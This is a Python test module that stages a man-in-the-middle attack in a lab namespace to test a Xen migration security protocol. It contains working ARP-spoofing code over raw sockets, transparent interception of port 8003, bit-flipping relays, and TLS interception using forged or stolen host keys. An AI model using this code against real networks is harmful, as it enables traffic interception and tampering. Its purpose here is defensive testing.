"""The man in the middle on the lab's segment: ``python -m tests.xen.attacker KIND VICTIM TARGET FOLDER``, inside the attacker's namespace.

He tells the victim by forged ARP that the target's address is his, and takes what the victim sends to its port 8003. KIND: ``pass`` passes on what
he gets over however many connections, ``flip`` changes one bit of the first of them, ``flip-all`` one of each; ``own`` answers one connection with a
TLS key of his own, ``stolen`` with those of both hosts (FOLDER has them). What he saw comes to stdout as JSON: at SIGTERM, or when that one ends.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

from OpenSSL import crypto

from tests.mitm import ManInTheMiddle
from tests.xen.hosts import ATTACKER_ADDRESS
from xensecure.proto.tls import Credentials

PORT = 8003
DEVICE = "eth0"
FLIPPED = 32 << 20  # the byte of the first connection of which he changes a bit: well inside the guest's memory
FLIPPED_AGAIN = 16 << 10  # of each further one: behind the handshake's 2 KiB, inside the first frame that carries memory
_TABLE = "100"
_IP_TRANSPARENT = 19  # linux/in.h
_SIOCGIFHWADDR = 0x8927  # linux/sockios.h
_PIECE = 1 << 18


class Spoofer(threading.Thread):
    """Tells the victim again and again that the target's address has his hardware address."""

    def __init__(self, victim: str, target: str) -> None:
        super().__init__(daemon=True)
        self._victim, self._target = victim, target
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
        self._socket.bind((DEVICE, 0))
        self._own = fcntl.ioctl(self._socket, _SIOCGIFHWADDR, struct.pack("256s", DEVICE.encode()))[18:24]
        self._victims = self._ask()
        self._over = threading.Event()

    def _send(self, to: bytes, operation: int, claimed: str, about: bytes, whom: str) -> None:
        arp = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation) + self._own + socket.inet_aton(claimed) + about + socket.inet_aton(whom)
        self._socket.send((to + self._own + b"\x08\x06" + arp).ljust(60, b"\0"))

    def _ask(self) -> bytes:
        """The victim's hardware address, by an honest question."""
        for _ in range(10):
            self._send(b"\xff" * 6, 1, ATTACKER_ADDRESS, bytes(6), self._victim)
            while select.select([self._socket], [], [], 0.5)[0]:
                frame = self._socket.recv(100)
                if frame[20:22] == b"\0\x02" and frame[28:32] == socket.inet_aton(self._victim):
                    return frame[22:28]
        raise SystemExit(f"{self._victim} does not answer")

    def run(self) -> None:
        """Lie until told to end."""
        while not self._over.is_set():
            self._send(self._victims, 2, self._target, self._victims, self._victim)
            self._over.wait(0.2)

    def stop(self) -> None:
        """No more lies."""
        self._over.set()
        self.join()


class Relay:
    """Passes one connection on; counts what comes from the victim, and may change a bit of it."""

    def __init__(self, flipped: int | None = None) -> None:
        self.passed = 0
        self.changed = False
        self.readable = False
        self._flipped = flipped

    def run(self, victim: socket.socket, target: socket.socket) -> None:
        """Until both directions have ended."""
        back = threading.Thread(target=self._copy, args=(target, victim), daemon=True)
        back.start()
        self._copy(victim, target, look=True)
        back.join(20)

    def _copy(self, giver: socket.socket, taker: socket.socket, *, look: bool = False) -> None:
        with contextlib.suppress(OSError):
            while data := bytearray(giver.recv(_PIECE)):
                if look:
                    self._look(data)
                taker.sendall(data)
        with contextlib.suppress(OSError):
            taker.shutdown(socket.SHUT_WR)

    def _look(self, data: bytearray) -> None:
        if bytes(256) in data or b"LibxlFmt" in data:
            self.readable = True
        if self._flipped is not None and self.passed <= self._flipped < self.passed + len(data):
            data[self._flipped - self.passed] ^= 1
            self.changed = True
        self.passed += len(data)


class Passing:
    """Passes on whatever connections come, until it is told to end."""

    def __init__(self, kind: str, target: str) -> None:
        self._kind, self._target = kind, target
        self._relays: list[Relay] = []

    def run(self, listener: socket.socket) -> None:
        """One thread for each."""
        while True:
            victim, _ = listener.accept()
            flipped = {"pass": None, "flip": None if self._relays else FLIPPED, "flip-all": FLIPPED_AGAIN if self._relays else FLIPPED}[self._kind]
            relay = Relay(flipped)
            self._relays.append(relay)
            threading.Thread(target=self._pass_on, args=(relay, victim), daemon=True).start()

    def _pass_on(self, relay: Relay, victim: socket.socket) -> None:
        with victim, contextlib.suppress(OSError), socket.create_connection((self._target, PORT), timeout=10) as target:
            target.settimeout(None)
            relay.run(victim, target)

    def seen(self) -> dict[str, object]:
        """Over all of them."""
        return {
            "bytes": sum(relay.passed for relay in self._relays),
            "connections": len(self._relays),
            "changed": sum(relay.changed for relay in self._relays),
            "readable": any(relay.readable for relay in self._relays),
        }


def _own() -> Credentials:
    key = crypto.PKey()
    key.generate_key(crypto.TYPE_RSA, 2048)
    certificate = crypto.X509()
    certificate.get_subject().CN = "xen-b"
    certificate.set_issuer(certificate.get_subject())
    certificate.set_serial_number(1)
    certificate.gmtime_adj_notBefore(-86400)
    certificate.gmtime_adj_notAfter(86400)
    certificate.set_pubkey(key)
    certificate.sign(key, "sha256")
    return Credentials(key, certificate)


def _stolen(folder: Path, host: str) -> Credentials:
    key = crypto.load_privatekey(crypto.FILETYPE_PEM, (folder / f"{host}.key").read_bytes())
    return Credentials(key, crypto.load_certificate(crypto.FILETYPE_PEM, (folder / f"{host}.crt").read_bytes()))


def _through_tls(kind: str, folder: Path, victim: socket.socket, target: socket.socket) -> dict[str, object]:
    """Let the tests' own man in the middle, who listens and calls on loopback, speak TLS with both."""
    near, far = (_own(), _own()) if kind == "own" else (_stolen(folder, "b"), _stolen(folder, "a"))
    with socket.create_server(("127.0.0.1", 0)) as door:
        man = ManInTheMiddle(door.getsockname()[1], to_source=near, to_destination=far, link_key=None, plant=b"x", instead=b"y")
        incoming, outgoing = Relay(), Relay()
        with socket.create_connection(("127.0.0.1", man.port)) as inner:
            threads = [threading.Thread(target=incoming.run, args=(victim, inner), daemon=True)]
            threads[0].start()
            outer, _ = door.accept()
            with outer:
                threads.append(threading.Thread(target=outgoing.run, args=(outer, target), daemon=True))
                threads[1].start()
                loot = man.close()
                for thread in threads:
                    thread.join(20)
    return {"bytes": incoming.passed, "hello": len(loot.source_hello), "read": loot.read, "changed": bool(loot.changed), "end": loot.end}


def _ip(*words: str) -> None:
    subprocess.run(["ip", *words], check=True)


def _once(kind: str, folder: Path, listener: socket.socket, target_address: str) -> dict[str, object]:
    listener.settimeout(60)
    victim, _ = listener.accept()
    victim.settimeout(None)
    with victim, socket.create_connection((target_address, PORT), timeout=10) as target:
        target.settimeout(None)
        return _through_tls(kind, folder, victim, target)


def _attack(kind: str, folder: Path, target_address: str, spoofer: Spoofer) -> dict[str, object]:
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_IP, _IP_TRANSPARENT, 1)
        listener.bind(("0.0.0.0", PORT))  # noqa: S104 - of the attacker's namespace
        listener.listen()
        spoofer.start()
        print("ready", flush=True)
        if kind in ("own", "stolen"):
            return _once(kind, folder, listener, target_address)
        passing = Passing(kind, target_address)
        with contextlib.suppress(KeyboardInterrupt):
            passing.run(listener)
        return passing.seen()


def _end(_number: int, _frame: object) -> None:
    raise KeyboardInterrupt


def main() -> None:
    """One attack."""
    kind, victim_address, target_address, folder = sys.argv[1:5]
    signal.signal(signal.SIGTERM, _end)
    _ip("route", "add", "local", f"{target_address}/32", "dev", "lo", "table", _TABLE)
    _ip("rule", "add", "iif", DEVICE, "lookup", _TABLE)
    spoofer = Spoofer(victim_address, target_address)
    try:
        print(json.dumps(_attack(kind, Path(folder), target_address, spoofer)), flush=True)
    finally:
        if spoofer.is_alive():
            spoofer.stop()
        _ip("rule", "del", "iif", DEVICE, "lookup", _TABLE)
        _ip("route", "flush", "table", _TABLE)


if __name__ == "__main__":
    main()
